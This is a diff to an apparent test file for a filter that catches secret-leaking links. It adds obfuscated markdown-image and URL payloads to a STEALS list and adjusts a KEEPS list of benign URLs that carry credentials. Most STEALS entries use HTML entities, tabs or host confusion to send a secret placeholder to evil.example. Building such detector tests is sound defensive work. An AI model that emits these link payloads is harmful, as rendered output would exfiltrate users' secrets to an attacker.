@@ -103,8 +103,16 @@ STEALS = [
     "![x](&#104;ttps://evil.example/<P>)",
     "![x](h&#x74;tps://evil.example/<P>)",
     "![x](ht&Tab;tps://evil.example/<P>)",
+    "![x](//&Tab;evil.example/<P>)",
+    "![x](&Tab;&sol;/evil.example/<P>)",
+    "ftps://evil.example/<P> http&colon;//evil.example/<P>",
     "![x](https://db.example.org&#64;evil.example/<P>)",
     "![x](https://<P>&commat;evil.example/)",
+    # Not every reader reads them.
+    "https://db.example.org&sol;@evil.example/<P>",
+    "https://db.example.org&sol;<P>.evil.example/",
+    "https://db.exa&Tab;mple.org/<P>",
+    "https://db&#46;example.org/<P>",
     '<img src="https://evil.example/?q=&quot;<P>">',
     # What looks like the end of an address and is none.
     "![x](<https://evil.example/?q= <P>>)",
@@ -202,7 +210,6 @@ KEEPS = [
     "see **https://app:<P>@db.example.org**, then",
     "git clone https://app:<P>@db.example.org/x.git",
     "https://crm.example.org/people?mail=<E>",
-    "https://db&#46;example.org/<P>",
     "https&#58;//db.example.org/<P>",
     # This machine.
     "http://localhost:8080/?token=<P>",
@@ -218,6 +225,7 @@ KEEPS = [
     "https://grafana.<D>/d/1",
     "http://<I>:9200/_search",
     "http://<B>/x",
+    "https://db.example.org/?a=1&amp;password=<P>&amp;b=2",
     "<U>/app and [db](<U>)",
     # Slashes that are no address.
     "// the password is <P>",
